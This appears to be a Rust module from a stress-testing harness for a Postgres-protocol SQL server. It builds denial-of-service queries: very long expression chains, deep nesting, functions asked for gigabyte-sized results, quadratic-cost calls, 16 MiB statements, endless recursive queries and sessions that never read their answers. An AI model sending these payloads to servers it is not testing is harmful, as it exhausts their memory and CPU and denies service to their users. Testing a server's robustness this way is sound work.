//! SQL statements: deep ones, long ones, and functions whose arguments set the size or cost of
//! their results.

use super::{on_threads, sql_rounds};
use crate::answers::ServerAnswer;
use crate::attack::AttackRun;
use crate::postgres::{Postgres, query};

/// Lengths of a chain, from what BI tools write to what only an attacker writes.
const LINKS: [usize; 3] = [2_000, 20_000, 200_000];
/// Time limit of the sessions. It ends any statement that can be cancelled.
const TIMEOUT: &str = "SET statement_timeout = 1000";

fn chains(make: impl Fn(usize) -> String) -> Vec<String> {
    LINKS.into_iter().map(make).collect()
}

/// Runs `a OR b OR …`, and the same with AND.
pub(crate) fn or_chain(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut texts = chains(|n| format!("SELECT 1 WHERE 1 = 2{}", " OR 1 = 3".repeat(n)));
    texts.extend(chains(|n| format!("SELECT 1 WHERE 1 = 1{}", " AND 1 = 1".repeat(n))));
    sql_rounds(run, &[TIMEOUT], &texts)
}

/// Runs `1 + 1 + …`, and the same with `||`.
pub(crate) fn plus_chain(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut texts = chains(|n| format!("SELECT 1{}", " + 1".repeat(n)));
    texts.extend(chains(|n| format!("SELECT 'a'{}", " || 'a'".repeat(n))));
    sql_rounds(run, &[TIMEOUT], &texts)
}

/// Runs `1::int::int…`, and chains of signs and negations.
pub(crate) fn cast_chain(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut texts = chains(|n| format!("SELECT 1{}", "::int".repeat(n)));
    texts.extend(chains(|n| format!("SELECT {}true", "NOT ".repeat(n))));
    texts.extend(chains(|n| format!("SELECT {}1", "- ".repeat(n))));
    sql_rounds(run, &[TIMEOUT], &texts)
}

/// Runs `SELECT 1 UNION ALL SELECT 1 …`.
pub(crate) fn union_chain(run: &AttackRun) -> Result<(), ServerAnswer> {
    sql_rounds(run, &[TIMEOUT], &chains(|n| format!("SELECT 1{}", " UNION ALL SELECT 1".repeat(n))))
}

/// Runs nested parentheses, subqueries, CASE, function calls and arrays.
pub(crate) fn nested(run: &AttackRun) -> Result<(), ServerAnswer> {
    let around = |left: &str, middle: &str, right: &str, n: usize| {
        format!("SELECT {}{middle}{}", left.repeat(n), right.repeat(n))
    };
    let mut texts = Vec::new();
    for n in [45, 450, 20_000] {
        texts.push(around("(", "1", ")", n));
        texts.push(around("(SELECT ", "1", ")", n));
        texts.push(around("* FROM (SELECT ", "1", ") AS x", n));
        texts.push(around("CASE WHEN true THEN ", "1", " END", n));
        texts.push(around("abs(", "1", ")", n));
        texts.push(around("ARRAY[", "1", "]", n));
    }
    sql_rounds(run, &[TIMEOUT], &texts)
}

/// Runs functions whose arguments set the length of the result.
pub(crate) fn long_results(run: &AttackRun) -> Result<(), ServerAnswer> {
    let texts = [
        "SELECT length(repeat(arrow_cast('x','LargeUtf8'), 4000000000000000000))",
        "SELECT length(repeat('x', 2147483647))",
        "SELECT cardinality(array_repeat(1, 2147483000))",
        "SELECT cardinality(range(0, 2000000000))",
        "SELECT length(lpad('x', 2147483647, 'y'))",
        "SELECT length(rpad('x', 2147483647, 'y'))",
        "SELECT length(repeat(repeat(repeat('x', 10000), 10000), 10000))",
        "SELECT length(replace(repeat('x', 1000000), 'x', repeat('y', 1000000)))",
        "SELECT count(*) FROM generate_series(1, 3) AS t(x) WHERE length(repeat('x', CAST(x * 700000000 AS int))) > 0",
        "SELECT length(string_agg(repeat('x', 1000000), ',')) FROM generate_series(1, 10000)",
        "SELECT cardinality(array_agg(repeat('x', 1000000))) FROM generate_series(1, 10000)",
    ];
    sql_rounds(run, &[TIMEOUT], &texts.map(str::to_owned))
}

/// Runs constants, joined values and types of fixed size. They are small once, but huge if repeated
/// in every row of a batch.
pub(crate) fn wide_values(run: &AttackRun) -> Result<(), ServerAnswer> {
    let one = "(SELECT repeat('x', CAST(value * 1000000 AS int)) AS a FROM generate_series(1, 1)) AS l";
    let texts = [
        "SELECT max(length(repeat('x', 1000000) || value)) FROM generate_series(1, 100000)".to_owned(),
        format!("SELECT max(length(a || value)) FROM {one} CROSS JOIN generate_series(1, 100000)"),
        format!(
            "SELECT max(length(a || r)) FROM {one} JOIN generate_series(1, 100000) AS r(r) ON length(a) > r.r"
        ),
        format!(
            "SELECT count(length(a || n)) FROM (SELECT a, unnest(range(0, 1000000)) AS n FROM {one}) AS t"
        ),
        "SELECT arrow_cast(NULL, 'FixedSizeBinary(2000000000)') FROM generate_series(1, 100000)".to_owned(),
        "SELECT CAST(NULL AS int[2000000000]) FROM generate_series(1, 100000)".to_owned(),
    ];
    sql_rounds(run, &[TIMEOUT], &texts)
}

/// Runs functions whose cost grows with the square of their arguments.
pub(crate) fn long_functions(run: &AttackRun) -> Result<(), ServerAnswer> {
    let texts = [
        "SELECT levenshtein(repeat('a',150000), repeat('b',150000))",
        "SELECT length(regexp_replace(repeat('ab', 500000), '(a|b)+?c', '', 'g'))",
        "SELECT cardinality(array_distinct(array_repeat(repeat('a', 1000), 100000)))",
    ];
    on_threads(4, |_| sql_rounds(run, &[TIMEOUT], &texts.map(str::to_owned)))
}

/// Runs queries of 16 MiB of text.
pub(crate) fn long_text(run: &AttackRun) -> Result<(), ServerAnswer> {
    let length = (16 << 20) - 100;
    let texts = [
        format!("SELECT 1 /* {} */", "a".repeat(length)),
        "SELECT 1;".repeat(length / 9),
        format!("SELECT length('{}')", "a".repeat(length)),
        format!("SELECT {}1", "1,".repeat(length / 2)),
        format!("SELECT {}", "'".repeat(length)),
        "(".repeat(length),
    ];
    sql_rounds(run, &[TIMEOUT], &texts)
}

/// Runs UNION ALL of up to 3,000 sorted subqueries, each with its own operators.
pub(crate) fn sorted_union(run: &AttackRun) -> Result<(), ServerAnswer> {
    let branch = "(SELECT x FROM generate_series(1, 100000) AS t(x) ORDER BY x DESC)";
    let text = |n: usize| vec![branch; n].join(" UNION ALL ");
    sql_rounds(run, &[TIMEOUT], &[text(50), text(300), text(3_000)])
}

/// Runs queries without an end.
pub(crate) fn endless(run: &AttackRun) -> Result<(), ServerAnswer> {
    let texts = [
        "WITH RECURSIVE t(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM t) SELECT count(*) FROM t",
        "SELECT count(*) FROM generate_series(1, 10000000) AS a(x), \
         generate_series(1, 10000000) AS b(y) WHERE x + y = 0",
        "SELECT sum(x) FROM generate_series(1, 100000000000) AS t(x)",
    ];
    on_threads(4, |_| sql_rounds(run, &[TIMEOUT], &texts.map(str::to_owned)))
}

/// Requests large answers and never reads them.
pub(crate) fn answers_unread(run: &AttackRun) -> Result<(), ServerAnswer> {
    let mut held = Vec::new();
    while run.round() && held.len() < 32 {
        let mut postgres = Postgres::login(&run.target, run.role)?;
        postgres.send(&query("SELECT x, repeat('x', 1000) FROM generate_series(1, 1000000000) AS t(x)"))?;
        held.push(postgres);
    }
    run.hold(|| {});
    Ok(())
}
